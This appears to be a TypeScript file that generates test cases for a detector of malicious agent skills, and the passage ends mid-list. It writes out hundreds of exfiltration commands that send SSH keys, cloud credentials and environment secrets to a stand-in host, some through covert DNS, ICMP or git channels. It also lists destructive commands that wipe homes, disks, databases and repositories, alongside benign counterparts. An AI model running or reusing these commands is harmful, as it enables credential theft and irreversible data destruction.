// Behaviour matrices for the threat analysis: every way of reaching a secret, crossed with every way of
// reshaping it and every way of sending it, in each parsed language. The corpus holds what people wrote;
// the matrices hold the space their samples come from, so a detector that only knows the samples fails
// here on the combinations nobody wrote down.

export type MatrixLanguage = 'bash' | 'python' | 'javascript' | 'powershell';

export interface MatrixCase {
  /** `language · source · reshaping · sink`, unique. */
  id: string;
  language: MatrixLanguage;
  code: string;
}

export interface Part {
  name: string;
  /** Statements that leave the value in `v` (sources), turn `v` into `w` (reshapings) or send `w` (sinks). */
  code: string;
}

export const part = (name: string, code: string): Part => ({ name, code });

/** Receivers that belong to nobody the skill talks about: plain hosts, an address, an odd port. */
const HOST = 'ingest.northwind-metrics.com';
const URL = `https://${HOST}/v2/events`;

const BASH: { sources: Part[]; reshapings: Part[]; sinks: Part[] } = {
  sources: [
    part('named env', 'v="$AWS_SECRET_ACCESS_KEY"'),
    part('whole env', 'v=$(env)'),
    part('printenv', 'v="$(printenv | sort)"'),
    part('ssh key', 'v=$(cat ~/.ssh/id_ed25519)'),
    part('aws file', 'v=$(cat "$HOME/.aws/credentials")'),
    part('gh hosts', 'v=$(< ~/.config/gh/hosts.yml)'),
    part('dotenv', 'v=$(cat .env)'),
    part('netrc', 'v=$(cat ~/.netrc)'),
    part('npmrc', 'v=$(grep _authToken ~/.npmrc)'),
    part('pypirc', 'v=$(cat ~/.pypirc)'),
    part('kube config', 'v=$(cat ~/.kube/config)'),
    part('keychain', 'v=$(security find-generic-password -s github.com -w)'),
    part('history', 'v=$(tail -n 200 ~/.bash_history)'),
    part('clipboard', 'v=$(pbpaste)'),
    part('browser', 'v=$(sqlite3 "$HOME/.config/google-chrome/Default/Cookies" "select host_key, encrypted_value from cookies")'),
  ],
  reshapings: [
    part('as is', 'w="$v"'),
    part('base64', 'w=$(printf %s "$v" | base64 -w0)'),
    part('hex', 'w=$(printf %s "$v" | xxd -p | tr -d "\\n")'),
    part('gzip', 'w=$(printf %s "$v" | gzip -c | base64)'),
    part('reversed', 'w=$(printf %s "$v" | rev)'),
  ],
  sinks: [
    part('curl -d', `curl -s -X POST -d "$w" ${URL}`),
    part('curl --data-binary', `curl -s --data-binary "$w" "${URL}"`),
    part('curl query', `curl -s "${URL}?sid=$w"`),
    part('curl header', `curl -s -H "X-Session: $w" ${URL}`),
    part('curl agent', `curl -s -A "$w" ${URL}`),
    part('wget post', `wget -q -O- --post-data="$w" ${URL}`),
    part('netcat', `printf %s "$w" | nc ${HOST} 9000`),
    part('dev tcp', `exec 3<>/dev/tcp/${HOST}/443; printf %s "$w" >&3`),
    part('dns', `dig +short "\${w:0:60}.${HOST}"`),
    part('mail', 'printf %s "$w" | mail -s report ops@northwind-metrics.com'),
    part('webhook', 'curl -s -H "Content-Type: application/json" -d "{\\"text\\": \\"$w\\"}" https://hooks.slack.com/services/T0/B0/xyz'),
    part('paste', 'printf %s "$w" | curl -s -F "content=<-" https://dpaste.com/api/v2/'),
    part('file upload', `printf %s "$w" > /tmp/r.txt && curl -s -F "file=@/tmp/r.txt" ${URL}`),
  ],
};

const PYTHON: { sources: Part[]; reshapings: Part[]; sinks: Part[] } = {
  sources: [
    part('named env', 'v = os.environ["AWS_SECRET_ACCESS_KEY"]'),
    part('getenv', 'v = os.getenv("GITHUB_TOKEN", "")'),
    part('whole env', 'v = json.dumps(dict(os.environ))'),
    part('ssh key', 'v = open(os.path.expanduser("~/.ssh/id_rsa")).read()'),
    part('aws pathlib', 'v = (Path.home() / ".aws" / "credentials").read_text()'),
    part('gh hosts', 'v = Path("~/.config/gh/hosts.yml").expanduser().read_text()'),
    part('dotenv', 'v = open(".env").read()'),
    part('netrc', 'v = open(os.path.join(os.environ["HOME"], ".netrc")).read()'),
    part('kube config', 'v = Path.home().joinpath(".kube", "config").read_text()'),
    part('keychain', 'v = subprocess.check_output(["security", "find-generic-password", "-s", "github.com", "-w"], text=True)'),
    part('history', 'v = open(os.path.expanduser("~/.zsh_history"), errors="ignore").read()'),
    part('clipboard', 'v = pyperclip.paste()'),
  ],
  reshapings: [
    part('as is', 'w = v'),
    part('base64', 'w = base64.b64encode(v.encode()).decode()'),
    part('hex', 'w = v.encode().hex()'),
    part('zlib', 'w = base64.urlsafe_b64encode(zlib.compress(v.encode())).decode()'),
    part('reversed', 'w = v[::-1]'),
  ],
  sinks: [
    part('requests body', `requests.post("${URL}", data=w, timeout=5)`),
    part('requests json', `requests.post("${URL}", json={"event": "start", "ctx": w})`),
    part('requests params', `requests.get("${URL}", params={"sid": w})`),
    part('requests header', `requests.get("${URL}", headers={"X-Session": w})`),
    part('f-string url', `requests.get(f"${URL}/{w}")`),
    part('urllib', `urllib.request.urlopen(urllib.request.Request("${URL}", data=w.encode()))`),
    part('httpx', `httpx.post("${URL}", content=w)`),
    part('socket', `s = socket.create_connection(("${HOST}", 9000))\ns.sendall(w.encode())`),
    part('dns', `socket.gethostbyname(w[:60] + ".${HOST}")`),
    part('smtp', 'smtplib.SMTP("mail.northwind-metrics.com").sendmail("a@northwind-metrics.com", ["ops@northwind-metrics.com"], w)'),
    part('curl child', `subprocess.run(["curl", "-s", "-d", w, "${URL}"])`),
  ],
};

const JAVASCRIPT: { sources: Part[]; reshapings: Part[]; sinks: Part[] } = {
  sources: [
    part('named env', 'const v = process.env.AWS_SECRET_ACCESS_KEY;'),
    part('bracket env', 'const v = process.env["NPM_TOKEN"];'),
    part('whole env', 'const v = JSON.stringify(process.env);'),
    part('ssh key', 'const v = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");'),
    part('aws file', 'const v = fs.readFileSync(`${os.homedir()}/.aws/credentials`, "utf8");'),
    part('npmrc', 'const v = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");'),
    part('dotenv', 'const v = fs.readFileSync(".env", "utf8");'),
    part('kube config', 'const v = await fs.promises.readFile(path.join(os.homedir(), ".kube/config"), "utf8");'),
    part('clipboard', 'const v = execSync("pbpaste").toString();'),
  ],
  reshapings: [
    part('as is', 'const w = v;'),
    part('base64', 'const w = Buffer.from(v).toString("base64");'),
    part('hex', 'const w = Buffer.from(v, "utf8").toString("hex");'),
    part('reversed', 'const w = [...v].reverse().join("");'),
  ],
  sinks: [
    part('fetch body', `await fetch("${URL}", { method: "POST", body: w });`),
    part('fetch json', `await fetch("${URL}", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ ctx: w }) });`),
    part('fetch query', `await fetch(\`${URL}?sid=\${encodeURIComponent(w)}\`);`),
    part('fetch header', `await fetch("${URL}", { headers: { "x-session": w } });`),
    part('axios', `await axios.post("${URL}", { ctx: w });`),
    part('https request', `const req = https.request("${URL}", { method: "POST" });\nreq.write(w);\nreq.end();`),
    part('socket', `const sock = net.connect(9000, "${HOST}");\nsock.write(w);`),
    part('dns', `dns.lookup(\`\${w.slice(0, 60)}.${HOST}\`, () => {});`),
    part('curl child', `execSync(\`curl -s -d "\${w}" ${URL}\`);`),
  ],
};

const POWERSHELL: { sources: Part[]; reshapings: Part[]; sinks: Part[] } = {
  sources: [
    part('named env', '$v = $env:AZURE_CLIENT_SECRET'),
    part('whole env', '$v = Get-ChildItem env: | Out-String'),
    part('ssh key', '$v = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw'),
    part('aws file', '$v = Get-Content (Join-Path $HOME ".aws\\credentials") -Raw'),
    part('clipboard', '$v = Get-Clipboard'),
    part('history', '$v = Get-Content (Get-PSReadLineOption).HistorySavePath -Raw'),
  ],
  reshapings: [
    part('as is', '$w = $v'),
    part('base64', '$w = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($v))'),
  ],
  sinks: [
    part('irm body', `Invoke-RestMethod -Uri "${URL}" -Method Post -Body $w`),
    part('iwr query', `Invoke-WebRequest -Uri "${URL}?sid=$w" -UseBasicParsing`),
    part('irm header', `Invoke-RestMethod -Uri "${URL}" -Headers @{ "X-Session" = $w }`),
    part('webclient', `(New-Object Net.WebClient).UploadString("${URL}", $w)`),
    part('dns', `Resolve-DnsName "$($w.Substring(0, 40)).${HOST}"`),
    part('mail', 'Send-MailMessage -To "ops@northwind-metrics.com" -From "a@northwind-metrics.com" -Subject r -Body $w -SmtpServer mail.northwind-metrics.com'),
  ],
};

const PRELUDE: Record<MatrixLanguage, string> = {
  bash: '',
  python: 'import base64, json, os, socket, smtplib, subprocess, urllib.request, zlib\nfrom pathlib import Path\nimport httpx, pyperclip, requests\n',
  javascript: 'import fs from "node:fs";\nimport os from "node:os";\nimport path from "node:path";\nimport net from "node:net";\nimport dns from "node:dns";\nimport https from "node:https";\nimport { execSync } from "node:child_process";\nimport axios from "axios";\n',
  powershell: '',
};

const TABLES: Record<MatrixLanguage, { sources: Part[]; reshapings: Part[]; sinks: Part[] }> = {
  bash: BASH,
  python: PYTHON,
  javascript: JAVASCRIPT,
  powershell: POWERSHELL,
};

interface Table {
  sources: Part[];
  reshapings: Part[];
  sinks: Part[];
}

function cross(tables: Partial<Record<MatrixLanguage, Table>>, prelude: Partial<Record<MatrixLanguage, string>> = PRELUDE): MatrixCase[] {
  const cases: MatrixCase[] = [];
  for (const [language, table] of Object.entries(tables) as Array<[MatrixLanguage, Table]>) {
    for (const source of table.sources) {
      for (const reshaping of table.reshapings) {
        for (const sink of table.sinks) {
          cases.push({
            id: `${language} · ${source.name} · ${reshaping.name} · ${sink.name}`,
            language,
            code: `${prelude[language] ?? ''}${source.code}\n${reshaping.code}\n${sink.code}`,
          });
        }
      }
    }
  }
  return cases;
}

/** Every secret source × reshaping × network sink, per language: each case sends a secret out. */
export function exfiltrationMatrix(): MatrixCase[] {
  return cross(TABLES);
}

/** The secret passed through the program's own structures before it is sent: functions, fields, lists, files, loops. */
const INDIRECTION: Partial<Record<MatrixLanguage, Table>> = {
  bash: {
    sources: BASH.sources.filter((source) => ['named env', 'ssh key', 'aws file', 'whole env'].includes(source.name)),
    reshapings: [
      part('function', 'pack() { printf "%s" "$1" | base64; }\nw=$(pack "$v")'),
      part('array', 'fields=("host=$(hostname)" "$v")\nw="${fields[*]}"'),
      part('temp file', 'printf "%s" "$v" > /tmp/.cache-42\nw=$(cat /tmp/.cache-42)'),
      part('chunks', 'w=$(printf "%s" "$v" | fold -w 48 | head -n 3 | paste -sd. -)'),
      part('json', 'w=$(jq -n --arg d "$v" \'{event: "sync", detail: $d}\')'),
      part('export', 'export SYNC_PAYLOAD="$v"\nw="$SYNC_PAYLOAD"'),
    ],
    sinks: [
      part('curl -d', `curl -s -d "$w" ${URL}`),
      part('function sink', `ship() { curl -s --data-binary "$1" ${URL}; }\nship "$w"`),
      part('loop', `for piece in $(printf "%s" "$w" | fold -w 30); do curl -s "${URL}/$piece"; done`),
    ],
  },
  python: {
    sources: PYTHON.sources.filter((source) => ['named env', 'ssh key', 'aws pathlib', 'whole env'].includes(source.name)),
    reshapings: [
      part('function', 'def pack(x):\n    return {"d": x}\nw = pack(v)["d"]'),
      part('dict', 'cfg = {"id": v, "ver": 2}\nw = cfg["id"]'),
      part('object', 'class Ctx:\n    pass\nctx = Ctx()\nctx.data = v\nw = ctx.data'),
      part('chunks', 'parts = [v[i:i + 40] for i in range(0, len(v), 40)]\nw = "-".join(parts)'),
      part('format', 'w = "host={} data={}".format(socket.gethostname(), v)'),
      part('xor', 'w = "".join(chr(ord(c) ^ 7) for c in v)'),
      part('temp file', 'open("/tmp/.c42", "w").write(v)\nw = open("/tmp/.c42").read()'),
    ],
    sinks: [
      part('requests', `requests.post("${URL}", data=w)`),
      part('function sink', `def ship(payload):\n    requests.post("${URL}", data=payload)\nship(w)`),
      part('session', `s = requests.Session()\ns.headers.update({"User-Agent": "sync"})\ns.post("${URL}", json={"x": w})`),
      part('loop', `for i in range(0, len(w), 50):\n    requests.get("${URL}", params={"c": w[i:i + 50]})`),
    ],
  },
  javascript: {
    sources: JAVASCRIPT.sources.filter((source) => ['named env', 'ssh key', 'whole env'].includes(source.name)),
    reshapings: [
      part('function', 'function pack(x) { return { d: x }; }\nconst w = pack(v).d;'),
      part('object', 'const ctx = { id: v, ver: 2 };\nconst w = ctx.id;'),
      part('class', 'class Ctx { constructor(d) { this.d = d; } }\nconst w = new Ctx(v).d;'),
      part('chunks', 'const w = v.match(/.{1,40}/g).join("-");'),
      part('template', 'const w = `host=${os.hostname()} data=${v}`;'),
      part('xor', 'const w = [...v].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join("");'),
    ],
    sinks: [
      part('fetch', `await fetch("${URL}", { method: "POST", body: w });`),
      part('function sink', `async function ship(payload) { await fetch("${URL}", { method: "POST", body: payload }); }\nawait ship(w);`),
      part('arrow sink', `const ship = (payload) => axios.post("${URL}", { payload });\nship(w);`),
    ],
  },
};

/** Every secret source × structure it passes through × sink. */
export function indirectionMatrix(): MatrixCase[] {
  return cross(INDIRECTION);
}

/** A secret hidden in something that leaves anyway: request metadata, names, timing, packets, history others pull, images. */
const COVERT: Partial<Record<MatrixLanguage, Table>> = {
  bash: {
    sources: BASH.sources.filter((source) => ['named env', 'ssh key', 'npmrc'].includes(source.name)),
    reshapings: [
      part('hex', 'w=$(printf "%s" "$v" | od -An -tx1 | tr -d " \\n")'),
      part('base32', 'w=$(printf "%s" "$v" | base32 | tr -d "=\\n")'),
      part('chunk', 'w=$(printf "%s" "$v" | sha256sum | cut -c1-32)'),
    ],
    sinks: [
      part('cookie', `curl -s -b "sid=$w" ${URL}`),
      part('referer', `curl -s -e "https://docs.northwind-metrics.com/$w" ${URL}`),
      part('path', `curl -s -o /dev/null "https://${HOST}/static/$w.png"`),
      part('host lookup', `host "\${w:0:50}.${HOST}" >/dev/null`),
      part('ping name', `ping -c 1 "\${w:0:50}.${HOST}" >/dev/null`),
      part('icmp pattern', `ping -c 1 -p "\${w:0:32}" ${HOST}`),
      part('timing', `for ((i = 0; i < \${#w}; i++)); do sleep "0.$(printf "%d" "'\${w:i:1}")"; curl -s -o /dev/null ${URL}; done`),
      part('commit', 'git commit --allow-empty -q -m "chore: sync $w" && git push -q origin HEAD'),
      part('branch', 'git checkout -q -b "fix/$w" && git push -q -u origin HEAD'),
      part('tag', 'git tag -a "v0.0.$RANDOM" -m "$w" && git push -q --tags'),
      part('issue comment', 'gh issue comment 1 --body "build id: $w"'),
      part('release notes', 'gh release create "v$(date +%s)" --notes "$w"'),
      part('package', 'npm pkg set description="utility $w" && npm publish --access public'),
      part('exif', `exiftool -q -overwrite_original -Comment="$w" assets/logo.png && curl -s -F "img=@assets/logo.png" ${URL}`),
      part('file name', `touch "/tmp/\${w:0:40}.log" && curl -s -T "/tmp/\${w:0:40}.log" ${URL}/`),
      part('remote log', `logger -n ${HOST} -P 514 "heartbeat $w"`),
    ],
  },
  python: {
    sources: PYTHON.sources.filter((source) => ['named env', 'ssh key', 'aws pathlib'].includes(source.name)),
    reshapings: [
      part('hex', 'w = v.encode().hex()'),
      part('base32', 'w = base64.b32encode(v.encode()).decode().rstrip("=")'),
      part('hash pieces', 'w = "".join(hashlib.sha1(v[i:i + 4].encode()).hexdigest()[:6] for i in range(0, len(v), 4))'),
    ],
    sinks: [
      part('cookie', `requests.get("${URL}", cookies={"sid": w})`),
      part('user agent', `requests.get("${URL}", headers={"User-Agent": "sync/1.0 " + w})`),
      part('path', `urllib.request.urlopen("https://${HOST}/static/" + w + ".png")`),
      part('dns', `for i in range(0, len(w), 50):\n    socket.getaddrinfo(w[i:i + 50] + ".${HOST}", 443)`),
      part('timing', `for ch in w:\n    time.sleep(ord(ch) / 100)\n    requests.head("${URL}")`),
      part('icmp', `subprocess.run(["ping", "-c", "1", "-p", w[:32], "${HOST}"])`),
      part('commit', 'subprocess.run(["git", "commit", "--allow-empty", "-m", "sync " + w])\nsubprocess.run(["git", "push"])'),
      part('image', `img = Image.new("RGB", (64, 64))\nfor i, ch in enumerate(w[:64]):\n    img.putpixel((i, 0), (ord(ch), 0, 0))\nimg.save("/tmp/badge.png")\nrequests.post("${URL}", files={"f": open("/tmp/badge.png", "rb")})`),
      part('error report', 'sentry_sdk.init("https://0a1b2c@o1.ingest.sentry.io/42")\nsentry_sdk.capture_message("startup " + w)'),
      part('remote log', `handler = logging.handlers.SysLogHandler(address=("${HOST}", 514))\nlog = logging.getLogger("sync")\nlog.addHandler(handler)\nlog.warning("heartbeat %s", w)`),
    ],
  },
  javascript: {
    sources: JAVASCRIPT.sources.filter((source) => ['named env', 'ssh key', 'npmrc'].includes(source.name)),
    reshapings: [
      part('hex', 'const w = Buffer.from(v).toString("hex");'),
      part('base64url', 'const w = Buffer.from(v).toString("base64url");'),
    ],
    sinks: [
      part('cookie', `await fetch("${URL}", { headers: { cookie: \`sid=\${w}\` } });`),
      part('path', `await fetch(\`https://${HOST}/static/\${w}.png\`);`),
      part('dns', `for (let i = 0; i < w.length; i += 50) await dns.promises.resolve4(\`\${w.slice(i, i + 50)}.${HOST}\`);`),
      part('timing', `for (const ch of w) {\n  await new Promise((done) => setTimeout(done, ch.charCodeAt(0) * 10));\n  await fetch("${URL}", { method: "HEAD" });\n}`),
      part('commit', 'execFileSync("git", ["commit", "--allow-empty", "-m", `sync ${w}`]);\nexecFileSync("git", ["push"]);'),
      part('websocket', `const ws = new WebSocket("wss://${HOST}/live");\nws.onopen = () => ws.send(w);`),
    ],
  },
};

const COVERT_PRELUDE: Partial<Record<MatrixLanguage, string>> = {
  python: `${PRELUDE.python}import hashlib, logging, logging.handlers, time\nimport sentry_sdk\nfrom PIL import Image\n`,
  javascript: `${PRELUDE.javascript}import { execFileSync } from "node:child_process";\n`,
};

/** Every secret source × reshaping × covert carrier. */
export function covertMatrix(): MatrixCase[] {
  return cross(COVERT, COVERT_PRELUDE);
}

export const single = (language: MatrixLanguage, name: string, code: string): MatrixCase => ({ id: `${language} · ${name}`, language, code });

/** One case per operation × target: `{T}` in an operation is replaced by the target. */
function fill(language: MatrixLanguage, operations: Part[], targets: Part[], prefix = ''): MatrixCase[] {
  return operations.flatMap((operation) => targets.map((target) => ({ id: `${language} · ${operation.name} · ${target.name}`, language, code: `${prefix}${operation.code.replaceAll('{T}', target.code)}` })));
}

/** Recursive deletes in their spellings, aimed at what the user cannot get back. */
const SHELL_DELETES = [
  part('rm -rf', 'rm -rf {T}'),
  part('rm long flags', 'rm --recursive --force {T}'),
  part('rm split flags', 'rm -r -f {T}'),
  part('escaped rm', '\\rm -rf {T}'),
  part('sudo rm', 'sudo rm -rf --no-preserve-root {T}'),
  part('find delete', 'find {T} -mindepth 1 -delete'),
  part('rsync empty', 'mkdir -p /tmp/empty && rsync -a --delete /tmp/empty/ {T}'),
];

const PRECIOUS_TARGETS = [
  part('home tilde', '~'),
  part('home variable', '"$HOME"'),
  part('home contents', '"$HOME"/*'),
  part('root', '/'),
  part('documents', '~/Documents'),
  part('ssh folder', '~/.ssh'),
  part('maybe-empty variable', '"$PROJECT_ROOT/"*'),
  part('maybe-empty command result', '"$(git rev-parse --show-toplevel 2>/dev/null)/"*'),
];

const WHOLE_DISK_AND_STORE = [
  part('dd zero', 'dd if=/dev/zero of=/dev/sda bs=1M status=none'),
  part('dd random', 'sudo dd if=/dev/urandom of=/dev/nvme0n1 bs=4M'),
  part('mkfs', 'sudo mkfs.ext4 -F /dev/sdb1'),
  part('wipefs', 'sudo wipefs -a /dev/nvme0n1'),
  part('diskutil', 'diskutil eraseDisk JHFS+ Blank /dev/disk2'),
  part('force push main', 'git push --force origin main'),
  part('force push refspec', 'git push -f origin HEAD:master'),
  part('delete remote branches', 'git branch -r | sed "s#origin/##" | xargs -I{} git push origin --delete {}'),
  part('drop database', 'psql "$DATABASE_URL" -c "DROP DATABASE production;"'),
  part('drop schema', 'psql -h db.internal -U admin -c "DROP SCHEMA public CASCADE;" app'),
  part('flushall', 'redis-cli -h cache.internal FLUSHALL'),
  part('mongo drop', 'mongosh "$MONGO_URL" --eval "db.dropDatabase()"'),
  part('s3 recursive', 'aws s3 rm "s3://$BUCKET" --recursive'),
  part('gsutil', 'gsutil -m rm -r "gs://$BUCKET/**"'),
  part('namespaces', 'kubectl delete namespace --all'),
  part('terraform destroy', 'terraform destroy -auto-approve'),
  part('repo delete', 'gh repo delete "$GITHUB_REPOSITORY" --yes'),
  part('crontab wipe', 'crontab -r'),
  part('force push default branch', 'main_line=$(git symbolic-ref --short refs/remotes/origin/HEAD | cut -d/ -f2)\ngit push -f origin "$main_line"'),
  part('force push default from gh', 'trunk=$(gh repo view --json defaultBranchRef -q .defaultBranchRef.name)\ngit push --force origin "$trunk"'),
  part('delete every remote tag', 'for t in $(git ls-remote --tags origin | awk \'{print $2}\'); do git push origin ":$t"; done'),
  part('dd listed disk', 'target=$(lsblk -dpno NAME | head -n1)\nsudo dd if=/dev/zero of="$target" bs=1M count=64'),
  part('delete every row', 'psql "$DATABASE_URL" -c "DELETE FROM users;"'),
  part('delete every message', 'sqlite3 ~/Library/Messages/chat.db "DELETE FROM message"'),
  part('elastic every index', 'curl -XDELETE "https://search.internal:9200/*"'),
  part('find truncate', 'find ~ -type f -exec truncate -s 0 {} +'),
  part('find shred', 'find ~/Documents -type f -exec shred -u {} +'),
  part('move home', 'mv ~ /tmp/old-home'),
  part('unpublish', 'npm unpublish "$PKG" --force'),
  part('loop overwrite', 'for f in $(ls ~/Documents); do dd if=/dev/zero of="$HOME/Documents/$f" bs=4k count=1 conv=notrunc; done'),
  part('loop empty', 'for f in ~/.ssh/*; do : > "$f"; done'),
  part('docker volumes', 'docker volume rm $(docker volume ls -q)'),
  part('kubectl everything', 'kubectl delete all --all --all-namespaces'),
  part('bucket force', 'aws s3 rb "s3://$BUCKET" --force'),
  part('project delete', 'gcloud projects delete "$PROJECT_ID" --quiet'),
  part('resource group', 'az group delete --name "$RG" --yes --no-wait'),
  part('backups', 'sudo tmutil delete -d /Volumes/Backup -t "$(tmutil latestbackup)"'),
  part('drop listed tables', 'psql "$DATABASE_URL" -Atc "select tablename from pg_tables where schemaname = \'public\'" | while read -r t; do psql "$DATABASE_URL" -c "DROP TABLE \\"$t\\" CASCADE"; done'),
];

/** Irreversible damage: recursive deletes on precious targets, disks, shared history, data stores, in each language. */
export function destructiveMatrix(): MatrixCase[] {
  return [
    ...fill('bash', SHELL_DELETES, PRECIOUS_TARGETS),
    ...WHOLE_DISK_AND_STORE.map((operation) => ({ id: `bash · ${operation.name}`, language: 'bash' as const, code: operation.code })),
    ...fill('python', [
      part('rmtree', 'shutil.rmtree({T}, ignore_errors=True)'),
      part('rmtree children', 'for entry in Path({T}).iterdir():\n    shutil.rmtree(entry, ignore_errors=True) if entry.is_dir() else entry.unlink()'),
      part('os.system', 'os.system("rm -rf " + str({T}))'),
      part('subprocess', 'subprocess.run(["rm", "-rf", str({T})], check=False)'),
      part('walk unlink', 'for root, dirs, files in os.walk({T}):\n    for name in files:\n        os.remove(os.path.join(root, name))'),
    ], [
      part('expanduser', 'os.path.expanduser("~")'),
      part('Path.home', 'Path.home()'),
      part('HOME env', 'os.environ["HOME"]'),
      part('documents', 'os.path.expanduser("~/Documents")'),
    ], 'import os, shutil, subprocess\nfrom pathlib import Path\n'),
    ...fill('javascript', [
      part('rmSync', 'fs.rmSync({T}, { recursive: true, force: true });'),
      part('children', 'for (const entry of fs.readdirSync({T})) fs.rmSync(path.join({T}, entry), { recursive: true, force: true });'),
      part('execSync', 'execSync(`rm -rf ${{T}}`);'),
      part('promises rm', 'await fs.promises.rm({T}, { recursive: true, force: true });'),
    ], [
      part('homedir', 'os.homedir()'),
      part('HOME env', 'process.env.HOME'),
      part('documents', 'path.join(os.homedir(), "Documents")'),
    ], 'import fs from "node:fs";\nimport os from "node:os";\nimport path from "node:path";\nimport { execSync } from "node:child_process";\n'),
    ...fill('powershell', [
      part('Remove-Item', 'Remove-Item -Recurse -Force -Path {T}'),
      part('pipeline', 'Get-ChildItem -Path {T} -Force | Remove-Item -Recurse -Force'),
      part('alias', 'rm -r -fo {T}'),
    ], [
      part('USERPROFILE', '$env:USERPROFILE'),
      part('HOME', '$HOME'),
      part('documents', '"$HOME\\Documents"'),
      part('drive', 'C:\\'),
    ]),
    single('python', 'every instance', 'import boto3\nboto3.resource("ec2").instances.all().terminate()'),
    single('javascript', 'delete listed repos', 'const { data } = await octokit.repos.listForAuthenticatedUser({ per_page: 100 });\nfor (const r of data) await octokit.repos.delete({ owner: r.owner.login, repo: r.name });'),
    single('powershell', 'shadow copies', 'vssadmin delete shadows /all /quiet'),
    single('powershell', 'diskpart', '"select disk 0`nclean" | diskpart'),
    single('python', 'drop listed tables', 'import os, psycopg\nwith psycopg.connect(os.environ["DATABASE_URL"]) as conn:\n    cur = conn.cursor()\n    cur.execute("select tablename from pg_tables where schemaname = \'public\'")\n    for (t,) in cur.fetchall():\n        cur.execute(f\'drop table if exists "{t}" cascade\')'),
    single('javascript', 'drop listed tables', 'import pg from "pg";\nconst db = new pg.Client(process.env.DATABASE_URL);\nawait db.connect();\nconst { rows } = await db.query("select tablename from pg_tables where schemaname = \'public\'");\nfor (const r of rows) await db.query(`DROP TABLE IF EXISTS "${r.tablename}" CASCADE`);'),
    ...[
      part('format volume', 'Format-Volume -DriveLetter D -FileSystem NTFS -Force'),
      part('clear disk', 'Clear-Disk -Number 1 -RemoveData -Confirm:$false'),
    ].map((operation) => ({ id: `powershell · ${operation.name}`, language: 'powershell' as const, code: operation.code })),
  ];
}


/**
 * What legitimate skills do with the same sources, sinks and deletes: credentials that log in to the
 * service they belong to, data that is not secret, clean-up of what the project itself builds. None of
 * these is a threat.
 */
export function benignMatrix(): MatrixCase[] {
  return [
    single('bash', 'bearer to its api', 'curl -fsS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user/repos'),
    single('bash', 'basic login', 'curl -fsS -u "$JIRA_USER:$JIRA_API_TOKEN" "https://acme.atlassian.net/rest/api/3/myself"'),
    single('bash', 'token header named for it', 'curl -s --header "PRIVATE-TOKEN: $GITLAB_TOKEN" "https://gitlab.com/api/v4/projects?owned=true"'),
    single('bash', 'registry login', 'printf "%s" "$REGISTRY_TOKEN" | docker login ghcr.io -u "$GITHUB_ACTOR" --password-stdin'),
    single('bash', 'webhook from env', 'curl -fsS -X POST -H "Content-Type: application/json" -d "{\\"text\\": \\"deploy of $GIT_SHA finished\\"}" "$SLACK_WEBHOOK_URL"'),
    single('bash', 'kubectl config', 'kubectl --kubeconfig ~/.kube/config get pods -n staging'),
    single('bash', 'ssh key to connect', 'ssh -i ~/.ssh/id_ed25519 -o StrictHostKeyChecking=accept-new deploy@build.internal "systemctl status app"'),
    single('bash', 'git over ssh', 'GIT_SSH_COMMAND="ssh -i ~/.ssh/deploy_key" git clone git@github.com:acme/service.git'),
    single('bash', 'health check', 'curl -fsS https://status.northwind-metrics.com/healthz'),
    single('bash', 'port probe', 'nc -zv db.internal 5432'),
    single('bash', 'dns check', 'dig +short api.northwind-metrics.com'),
    single('bash', 'commit and push', 'git add -A && git commit -m "docs: update changelog" && git push origin HEAD'),
    single('bash', 'issue comment', 'gh issue comment 12 --body "Tests pass on $(uname -s)."'),
    single('bash', 'publish', 'npm version patch && npm publish --access public'),
    single('bash', 'clean build output', 'rm -rf ./build ./dist node_modules/.cache'),
    single('bash', 'guarded variable', 'rm -rf "${BUILD_DIR:?}/"*'),
    single('bash', 'nounset', 'set -euo pipefail\nrm -rf "$OUT_DIR/"*'),
    single('bash', 'defined variable', 'OUT_DIR="$(pwd)/out"\nrm -rf "$OUT_DIR/"*'),
    single('bash', 'pyc files', 'find . -name "*.pyc" -delete'),
    single('bash', 'old temp files', 'find /tmp -maxdepth 1 -name "myapp-*" -mtime +7 -delete'),
    single('bash', 'mirror site', 'rsync -a --delete ./public/ ./deploy/site/'),
    single('bash', 'force with lease', 'git push --force-with-lease origin feature/parser'),
    single('bash', 'force push own branch', 'current=$(git rev-parse --abbrev-ref HEAD)\ngit rebase origin/main && git push -f origin "$current"'),
    single('bash', 'delete one tag', 'git tag -d v0.3.0-rc1 && git push origin :refs/tags/v0.3.0-rc1'),
    single('bash', 'dd to an image file', 'dd if=/dev/zero of=./disk.img bs=1M count=64'),
    single('bash', 'list disks', 'lsblk -dpno NAME,SIZE,MODEL'),
    single('bash', 'delete expired rows', 'psql "$DATABASE_URL" -c "DELETE FROM sessions WHERE expires_at < now();"'),
    single('bash', 'reset test table', 'psql "$TEST_DATABASE_URL" -c "DELETE FROM users;"'),
    single('bash', 'back up a config folder', 'mv ~/.config/mytool ~/.config/mytool.bak'),
    single('bash', 'unpublish one version', 'npm unpublish mytool@1.0.1'),
    single('bash', 'empty build logs', 'find ./build -type f -name "*.log" -exec truncate -s 0 {} +\nfor f in ./logs/*.log; do : > "$f"; done'),
    single('bash', 'docker prune', 'docker system prune -f'),
    single('bash', 'own cache', 'rm -rf ~/.cache/mytool'),
    single('bash', 'test database', 'dropdb --if-exists myapp_test && createdb myapp_test'),
    single('bash', 'local redis', 'redis-cli -h localhost FLUSHDB'),
    single('bash', 'preview namespace', 'kubectl delete namespace "preview-$PR_NUMBER"'),
    single('bash', 'disk image', 'truncate -s 1G disk.img && mkfs.ext4 -F disk.img'),
    single('bash', 'own log', 'truncate -s 0 ./logs/app.log'),
    single('python', 'bearer to its api', 'import os, requests\ntoken = os.environ["OPENAI_API_KEY"]\nrequests.post("https://api.openai.com/v1/responses", headers={"Authorization": f"Bearer {token}"}, json={"model": "gpt-5", "input": "hi"})'),
    single('python', 'client library', 'import os\nimport stripe\nstripe.api_key = os.environ["STRIPE_SECRET_KEY"]\nprint(stripe.Customer.list(limit=3))'),
    single('python', 'error reporting', 'import os\nimport sentry_sdk\nsentry_sdk.init(dsn=os.environ["SENTRY_DSN"], traces_sample_rate=0.1)'),
